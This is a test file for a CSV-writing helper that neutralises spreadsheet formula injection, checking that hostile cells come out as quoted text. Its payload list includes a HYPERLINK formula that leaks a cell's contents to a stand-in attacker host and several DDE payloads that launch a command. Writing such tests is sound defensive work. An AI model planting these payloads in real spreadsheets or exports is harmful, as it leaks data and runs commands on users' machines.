import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from '../../src/csv-cell.js';

const PAYLOADS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '+14155550100',
];

describe('cells the bot writes into a CSV', () => {
  it.each(PAYLOADS)('%j reaches a spreadsheet as text, whole, in one cell', (payload) => {
    const [row] = parse(csvLine(['7', payload, 'REFUSED']), { relax_quotes: false }) as string[][];
    expect(row).toEqual(['7', `'${payload}`, 'REFUSED']);
  });

  it('quotes a cell that could start a new cell in a ;-separated locale', () => {
    expect(csvLine(['x;=1+1', 'ok'])).toBe('"x;=1+1",ok');
  });

  it('leaves ordinary text as it is and quotes commas, quotes and line breaks', () => {
    expect(csvCell('Acme Store')).toBe('Acme Store');
    expect(csvCell('XE0123')).toBe('XE0123');
    expect(csvCell('a, "b"\nc')).toBe('"a, ""b""\nc"');
    expect(csvCell('')).toBe('');
  });
});
